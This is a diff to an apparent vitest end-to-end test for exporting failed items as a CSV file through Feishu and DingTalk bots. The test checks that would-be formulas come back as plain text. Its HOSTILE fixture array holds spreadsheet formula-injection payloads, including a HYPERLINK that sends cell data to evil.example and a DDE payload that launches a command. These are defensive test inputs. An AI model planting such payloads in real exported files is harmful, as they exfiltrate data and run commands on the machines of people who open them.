@@ -1,10 +1,10 @@
 import { TOPIC_CARD, TOPIC_ROBOT } from 'dingtalk-stream';
-import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { FakeFeishu } from '../../src/sandbox/fake-feishu.js';
 import type { FakeMessage } from '../../src/sandbox/fake-feishu-im.js';
 import { platformsEach, until, withDingtalk, withFeishu } from '../helpers/bot.js';
 import { FEISHU_FILE_MAX_BYTES, FeishuOpenApi } from '../../src/platforms/feishu/openapi.js';
+import { readCsv } from '../helpers/rfc4180.js';
 
 const toast = (ack: { data?: unknown }) => (ack.data as { toast: { content: string } }).toast.content;
 const hex = (n: number) => n.toString(16).padStart(32, '0');
@@ -12,7 +12,7 @@ const hex = (n: number) => n.toString(16).padStart(32, '0');
 const HOSTILE = [
   { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', msg: '+cmd|\' /C calc\'!A0' },
   { name: '@SUM(1+1)*cmd', msg: '-2+3' },
-  { name: '\t=1+1', msg: 'line one\r\nline "two", with a comma' },
+  { name: '\t=1+1\nline two\rthree', msg: 'line one\r\nline "two", with a comma' },
   { name: '张三，李四', msg: '＝1+1', email: 'zhang.san@example.com', mobile: '13912345678' },
 ];
 
@@ -47,7 +47,8 @@ describe('Export failed items, end to end (Feishu: upload and file message; Ding
     const bytes = file.file!.bytes;
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(bytes.byteLength).toBeLessThan(30 * 1024 * 1024);
-    const table: string[][] = parse(bytes.toString('utf8'), { bom: true });
+    // Read as a spreadsheet reads it: any unquoted line break would end the row.
+    const table = readCsv(bytes);
     expect(table[0]).toEqual(['Name', 'ID', 'Code', 'Reason', 'Email', 'Mobile']);
     expect(table).toHaveLength(10_001);
     // Every would-be formula is text; quotes, commas and line breaks come back as they were.
